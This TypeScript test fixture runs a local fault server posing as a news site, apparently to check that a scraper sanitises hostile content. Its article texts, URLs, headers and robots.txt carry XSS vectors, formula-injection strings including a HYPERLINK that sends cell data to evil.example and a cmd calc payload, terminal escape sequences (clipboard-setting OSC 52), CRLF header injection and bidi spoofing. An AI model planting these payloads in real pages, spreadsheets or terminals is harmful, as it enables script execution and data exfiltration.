/** A site whose every word is meant for something else than reading: terminals, spreadsheets, YAML, JavaScript objects, browsers. */
import {
  type Ask,
  answer,
  type FaultServer,
  type Scenario,
  startFaultServer,
} from "../fault-server.js";
import { HTML, LIST, shell } from "./office.js";
import { PNG } from "./small-site.js";

/** Texts of titles, types, teasers, alternative texts and link texts. */
export const TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(A1:A9)",
  "\uff1d1+1",
  "'=1+1",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "<!-- ]]> --> ]]> &amp; <![CDATA[",
  "---",
  "--- # x",
  "key: value # no comment",
  "!!js/function 'x'",
  "&anchor *alias",
  "line\u2028break\u2029here",
  "no",
  "1e3",
  "0x10",
  "0o7",
  "1_000",
  "12:30:45",
  "2024-01-01",
  "~",
  "null",
  "{{< evil >}} {% evil %} {{ evil }}",
  "[x](javascript:alert(1)) `a` *b* | c",
  "\u202etxt.exe\u202c \u2066x\u2069",
  "\ufeffmark",
];

/** What a terminal acts on. */
export const ESCAPES: readonly string[] = [
  "\u001b[2J\u001b]0;owned\u0007",
  "\u001b]8;;http://evil.example/\u001b\\here\u001b]8;;\u001b\\",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u009b31mred\u009d0;x\u009c",
];

/** Last segments of URLs. */
const SEGMENTS: readonly string[] = [
  "=1+1",
  "+1",
  "-1",
  "@SUM",
  "%09=1",
  "a%0d%0aRewriteRule%20%5E%20http://evil.example/%20%5BR%5D",
  "__proto__",
  "constructor",
  "%1B%5B2J",
  "%C2%9B31m",
  "%E2%80%AEgpj",
  "x%22,%22=1",
  "$uri$host",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "no",
  "2024-01-01",
];

/** A path whatever way its octets are written. */
const plain = (path: string) => decodeURIComponent(new URL(path, "http://x").pathname);
const escaped = (text: string) => text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** Bodies hold each text as text, as an alternative text and a link text, and some of them all markup that runs where it is let. */
function body(text: string): string {
  const words = `<p>${escaped(text)}</p><p onclick="alert(1)">Words <b onmouseover="alert(1)">bold</b>
<a href="javascript:alert(1)">${escaped(text)}</a> <a href=" java&#10;script:alert(2)" title="${escaped(text)}">b</a> <a href="data:text/html,<script>alert(3)</script>">c</a>
<a href="vbscript:x">d</a> <a href="/news/elsewhere" title="${escaped(text)}">e</a></p>
<p><img src="/files/a.png" alt="${escaped(text)}" title="${escaped(text)}" onerror="alert(4)"></p>
<pre><code class="language-</script><script>alert(24)</script>">${escaped(text)}</code></pre><blockquote cite="javascript:alert(25)">${escaped(text)}</blockquote><h2 id="&quot; onclick=alert(26)">${escaped(text)}</h2>`;
  return TEXTS.indexOf(text) % 8 === 0 ? `${words}${markup(text)}` : words;
}

function markup(text: string): string {
  return `<script>alert(5)</script><style>body{}</style><iframe src="javascript:alert(6)" srcdoc="<script>alert(7)</script>"></iframe>
<svg onload="alert(8)"><script>alert(9)</script><a xlink:href="javascript:alert(10)">x</a></svg><math><mtext><style><img src=x onerror=alert(11)></style></mtext></math>
<form action="javascript:alert(12)"><button formaction="javascript:alert(13)">go</button></form><object data="javascript:alert(14)"></object><embed src="javascript:alert(15)">
<noscript><p title="</noscript><img src=x onerror=alert(16)>">n</p></noscript><template><script>alert(17)</script></template><base href="javascript:/alert(18)//"><meta http-equiv="refresh" content="0;url=javascript:alert(19)">
<table onfocus="alert(20)"><tr><th style="background:url(javascript:alert(21))">${escaped(text)}</th><td rowspan="2">${escaped(text)}</td></tr><tr><td><p>x</p><p>y</p></td></tr></table>
<details ontoggle="alert(22)" open><summary>s</summary>t</details><video onerror="alert(23)" src="/files/a.mp4" poster="javascript:x"></video>`;
}

interface HostileArticle {
  readonly path: string;
  readonly text: string;
  readonly day: string;
}

/** Articles that are written, in the order of the list; their text is title, type, teaser and more. */
const ARTICLES: readonly HostileArticle[] = TEXTS.map((text, index) => ({
  path: `/news/${SEGMENTS[index] ?? `story-${index}`}`,
  text,
  day: `2021-${String(1 + Math.floor(index / 28)).padStart(2, "0")}-${String(1 + (index % 28)).padStart(2, "0")}`,
}));

const raw =
  (reason: string, headers: string): Scenario =>
  ({ socket }) => {
    socket.end(
      `HTTP/1.1 500 ${reason}\r\n${headers}content-length: 0\r\nconnection: close\r\n\r\n`,
    );
  };
const to =
  (location: string): Scenario =>
  (ask) =>
    answer(ask, 302, { location }, "");

/** What the rows after the good ones link to. */
const FAULTS: Readonly<Record<string, Scenario>> = {
  "/news/reason": raw("\u001b[2J\u009b31m=1+1", ""),
  "/news/header": raw("Bad", `x-evil: \u001b]52;c;ZXZpbA==\u0007\r\ncontent-type: \u001b[2J\r\n`),
  "/news/redirect": to("javascript:alert(1)//=1"),
  "/news/redirect-escape": to("http://evil.example:1/%1b%5b2J?=\u009b31m\u202e"),
  "/news/type": (ask) =>
    answer(ask, 200, { "content-type": "text/\u009b31m; charset=\u001b[2J" }, "x"),
  "/news/coding": (ask) =>
    answer(ask, 200, { ...HTML, "content-encoding": "\u009b31m\u202e" }, "x"),
};
const ROBOTS =
  "User-agent: *\nDisallow: /news/forbidden\u001b[2J\u009b31m\u202e<script>\nDisallow: /news/forbidden=\n";

function row(href: string, text: string, date: string): string {
  return `<div class="views-row"><div class="views-field views-field-title"><span class="field-content"><a href="${escaped(href)}">${escaped(text)}</a></span></div>
<div class="views-field views-field-body"><div class="field-content"><p>${escaped(text)}</p></div></div>
<div class="views-field views-field-field-type"><div class="field-content">${escaped(text)}</div></div>
<div class="views-field views-field-field-date"><div class="field-content"><span class="date-display-single" content="${escaped(date)}">x</span></div></div></div>`;
}

export async function startTextSite(): Promise<FaultServer & { readonly start: string }> {
  const rows = [
    ...ARTICLES.map(({ path, text, day }) => row(path, text, day)),
    ...TEXTS.slice(0, 16).map((text, index) => row(`/news/undated-${index}`, text, text)),
    ...ESCAPES.map((text, index) => row(`/news/escape-${index}`, text, "2021-03-01")),
    ...Object.keys(FAULTS).map((path) => row(path, path, "2021-03-02")),
    ...ESCAPES.map((text) => row(`javascript:alert("${text}")`, text, "2021-03-03")),
    row("/news/forbidden\u001b[2J\u009b31m\u202e<script>", "Forbidden", "2021-03-04"),
    row("/news/forbidden=", "=Forbidden", "2021-03-04"),
  ];
  const list = shell(
    "List",
    `<div class="view"><div class="view-content">${rows.join("")}</div></div>`,
  );
  const pages = new Map(ARTICLES.map(({ path, text }) => [path, text]));
  const find = (ask: Ask): string | undefined =>
    pages.get(ask.path) ??
    TEXTS[Number(/undated-(\d+)$/.exec(ask.path)?.[1] ?? Number.NaN)] ??
    ESCAPES[Number(/escape-(\d+)$/.exec(ask.path)?.[1] ?? Number.NaN)] ??
    [...pages].find(([path]) => plain(path) === plain(ask.path))?.[1];
  const server = await startFaultServer({
    "/robots.txt": (ask) => answer(ask, 200, { "content-type": "text/plain" }, ROBOTS),
    "/files/a.png": (ask) => answer(ask, 200, { "content-type": "image/png" }, PNG),
    ...FAULTS,
    "*": (ask) => {
      if (ask.path === LIST) return answer(ask, 200, HTML, list);
      const text = find(ask);
      if (text === undefined) return answer(ask, 404, HTML, shell("Not found", ""));
      answer(
        ask,
        200,
        HTML,
        shell(
          escaped(text),
          `<div class="node node-article"><div class="content"><div class="field field-name-body"><div class="field-items"><div class="field-item even">${body(text)}</div></div></div></div></div>`,
        ),
      );
    },
  });
  return { ...server, start: `${server.origin}${LIST}` };
}
